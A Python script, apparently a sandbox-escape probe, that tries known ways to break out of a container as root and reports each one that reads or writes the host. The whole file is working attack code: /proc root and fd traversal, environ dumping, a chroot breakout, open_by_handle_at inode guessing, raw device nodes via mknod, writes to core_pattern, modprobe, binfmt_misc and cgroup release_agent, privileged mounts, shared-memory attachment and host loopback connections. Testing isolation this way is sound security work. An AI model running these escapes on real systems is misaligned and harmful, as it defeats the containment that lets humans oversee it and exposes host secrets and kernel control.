# Known ways out of a container, as root: prints whatever they bring back, and the name of each that could write where it must not.
# argv: a path on the host, a port on the host's loopback
import ctypes, glob, os, socket, struct, sys

PATH, PORT = sys.argv[1], int(sys.argv[2])
libc = ctypes.CDLL(None, use_errno=True)


def attempt(name, trick):
    try:
        brought = trick()
        if brought:
            print(name, brought, flush=True)
    except (OSError, ValueError, OverflowError):
        pass


def content(path, flags=os.O_RDONLY):
    fd = os.open(path, flags | os.O_NONBLOCK | os.O_NOCTTY)
    try:
        return os.read(fd, 65536)
    finally:
        os.close(fd)


def written(path, text):
    fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    try:
        return os.write(fd, text) and b"was written"
    finally:
        os.close(fd)


def through_processes():
    for place in ("root", "cwd", "fd/0", "fd/1", "fd/2", "fd/3", "fd/4", "fd/5"):
        for process in glob.glob("/proc/[0-9]*") + ["/proc/self"]:
            attempt(f"{process}/{place}", lambda: content(f"{process}/{place}/{PATH}"))
            attempt(f"{process}/{place} up", lambda: content(f"{process}/{place}/../../../../../..{PATH}"))
            attempt(f"link {process}/{place}", lambda: os.link(f"{process}/{place}{PATH}", "/tmp/link") or content("/tmp/link"))
    for process in glob.glob("/proc/[0-9]*"):
        if process != f"/proc/{os.getpid()}":
            attempt(process, lambda: content(process + "/environ"))


def out_of_a_root():
    """The old way: a root below a directory that is still held open."""
    child = os.fork()
    if child:
        os.waitpid(child, 0)
        return
    try:
        held = os.open("/", os.O_RDONLY)
        os.makedirs("/tmp/jail", exist_ok=True)
        os.chroot("/tmp/jail")
        os.fchdir(held)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        attempt("chroot", lambda: content(PATH))
    finally:
        os._exit(0)


def by_handle():
    """Inode 2 or 256 of whatever holds a file of ours, then down by name."""
    for inode in (2, 128, 256):
        handle = ctypes.create_string_buffer(struct.pack("IiQQ", 8, 1, inode, 0))
        for mount in ("/", "/run/sandglass/agent", "/etc/hostname", "/dev/shm", "/proc"):
            at = os.open(mount, os.O_RDONLY)
            got = libc.open_by_handle_at(at, handle, os.O_RDONLY)
            os.close(at)
            if got >= 0:
                print("open_by_handle_at", mount, os.listdir(got))


def devices():
    for major in (7, 8, 202, 252, 253, 254, 259, 1, 10):
        for minor in (0, 1, 2, 4, 16, 237):
            for kind in (0o60600, 0o20600):
                def use():
                    os.mknod("/tmp/node", kind, os.makedev(major, minor))
                    try:
                        return content("/tmp/node")
                    finally:
                        os.unlink("/tmp/node")
                attempt(f"device {oct(kind)} {major}:{minor}", use)
    for path in glob.glob("/dev/*") + glob.glob("/dev/[!f]*/*"):
        if os.path.basename(path) not in ("null", "zero", "full", "random", "urandom", "tty", "console", "ptmx", "stdin", "stdout", "stderr"):
            attempt(path, lambda: not os.path.isdir(path) and content(path))


def kernel_settings():
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/fs/binfmt_misc/register", "/sys/kernel/uevent_helper",
                 "/proc/sysrq-trigger", "/proc/1/oom_score_adj", "/proc/sys/kernel/ns_last_pid"):
        attempt("write " + path, lambda: written(path, b"|/tmp/out"))
    for path in glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True) + glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True):
        attempt("write " + path, lambda: written(path, b"/tmp/out"))
    for kind in (b"cgroup", b"cgroup2", b"proc", b"sysfs", b"devtmpfs", b"debugfs"):
        attempt("mount " + kind.decode(), lambda: libc.mount(b"none", b"/mnt", kind, 0, b"") == 0 and b"was mounted")


def memory_and_messages():
    for number in range(64):
        libc.shmat.restype = ctypes.c_void_p
        at = libc.shmat(number, None, 0o10000)
        if at not in (None, ctypes.c_void_p(-1).value):
            print("shmat", number, ctypes.string_at(at, 64))
    for path in glob.glob("/dev/shm/*") + glob.glob("/dev/mqueue/*"):
        attempt(path, lambda: content(path))


def sockets():
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        print("socket", line.split()[-1]) if "@" in line or "/" in line else None
    for address in ("127.0.0.1", "10.0.0.1", "172.17.0.1", "::1"):
        def call():  # the gateway takes every connection and resets what is not allowed: whether the host got one, the host knows
            with socket.create_connection((address, PORT), 1) as reached:
                return reached.recv(64) and f"reached {address}"
        attempt("host", call)


for trick in (through_processes, out_of_a_root, by_handle, devices, kernel_settings, memory_and_messages, sockets):
    attempt(trick.__name__, trick)
